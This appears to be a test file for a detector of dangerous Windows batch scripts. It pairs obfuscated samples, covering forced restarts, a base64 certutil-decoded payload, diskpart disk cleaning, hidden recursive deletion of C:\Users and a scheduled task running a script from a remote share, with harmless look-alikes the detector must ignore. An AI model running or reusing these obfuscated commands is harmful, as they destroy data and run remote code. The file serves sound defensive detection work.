import { highIn } from "../support/found";

const raw = String.raw;
const script = (...lines: string[]) => lines.join("\n");

const STEP = Buffer.from("shutdown /r /t 0\r\n").toString("base64");
const UNINSTALL = raw`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall`;
const EACH = raw`for /f "delims=" %%k in ('reg query "${UNINSTALL}" ^| findstr /r /c:"{.*}$"') do `;

/** What a script finds in its own text, and what it puts together before it runs. */
const FOUND: readonly (readonly [string, string])[] = [
  [
    script(
      raw`for /f "tokens=1,* delims=#" %%a in ('findstr /b "::#" "%~f0"') do %%b`,
      "exit /b",
      "::#shutdown /r",
    ),
    "power-off@1",
  ],
  [
    script(
      raw`for /f "usebackq tokens=1,* delims=#" %%a in ("%~f0") do if "%%a"=="::" %%b`,
      "exit /b",
      "::#shutdown /r",
    ),
    "power-off@1",
  ],
  [
    script(raw`more +3 "%~f0" > %TEMP%\a.cmd`, raw`call %TEMP%\a.cmd`, "exit /b", "shutdown /r"),
    "power-off@4",
  ],
  [
    script(
      raw`certutil -f -decode "%~f0" %TEMP%\a.cmd`,
      raw`call %TEMP%\a.cmd`,
      "exit /b",
      "-----BEGIN CERTIFICATE-----",
      STEP,
      "-----END CERTIFICATE-----",
    ),
    "power-off@2",
  ],
  [
    script("<nul set /p =shut>1", ">2 echo down /r", "copy /b 1+2 3.cmd", "call 3.cmd"),
    "power-off@4",
  ],
  [
    script("set x=cleQan", ">a.txt echo select disk 1", ">>a.txt echo %x:Q=%", "diskpart /s a.txt"),
    "change-partitions@4",
  ],
  [
    script(
      "setlocal enabledelayedexpansion",
      "for %%n in (114 100) do (",
      "cmd /c exit %%n",
      "set w=!w!!=ExitCodeAscii!",
      ")",
      raw`%w% /s /q C:\Users`,
    ),
    "delete-protected@6",
  ],
  [raw`forfiles /m a.ini /c "cmd /c 0x72d 0x2fs 0x2fq C:0x5cUsers"`, "delete-protected@1"],
  [script("for %%i in (", "a", ") do shutdown /r"), "power-off@3"],
  [
    script(
      "set /a n=7 %% 4",
      "goto s%n%",
      ":s1",
      raw`%v% /tr \\198.51.100.7\pub\r.cmd`,
      "exit /b",
      ":s3",
      "set v=schtasks /create /tn a",
      "set /a n-=2",
      "goto s%n%",
    ),
    "scheduled-code@4",
  ],
  [`${EACH}msiexec /x %%~nxk /qn`, "remove-many-packages@1"],
];

/** Scripts of the same shape that do no harm. */
const HARMLESS: readonly string[] = [
  script(raw`findstr /b "::#" "%~f0"`, "exit /b", "::#shutdown /r restarts the server"),
  script(
    raw`for /f "tokens=1,* delims=#" %%a in ('findstr /b "::#" "%~f0"') do %%b`,
    "exit /b",
    "::#echo done",
    ":: shutdown /r",
  ),
  script(raw`more +2 "%~f0"`, "exit /b", "shutdown /r"),
  script("<nul set /p =shut>1", ">2 echo down /r", "copy /b 1+2 notes.txt"),
  script("cmd /c exit 114", "echo %=ExitCodeAscii%d /s /q C:\\Users"),
  raw`forfiles /m a.ini /c "cmd /c echo 0x22C:0x5cUsers0x22"`,
  raw`schtasks /create /tn a /tr \\10.0.0.5\ops\backup.cmd /sc daily`,
  raw`schtasks /create /tn a /tr \\files.example.com\ops\backup.cmd /sc daily`,
  `${EACH}reg query "%%k" /v DisplayName | find "Old Agent" && msiexec /x %%~nxk /qn`,
  `for /f "delims=" %%k in ('reg query ${UNINSTALL} /s /f "Old Agent"') do msiexec /x %%~nxk /qn`,
  `${EACH}echo %%~nxk`,
];

describe("the script's own text, and texts put together", () => {
  it.each(FOUND)("%s", async (text, expected) => {
    expect(await highIn("BAT", text)).toEqual([expected]);
  });

  it.each(HARMLESS)("leaves alone: %s", async (text) => {
    expect(await highIn("BAT", text)).toEqual([]);
  });
});
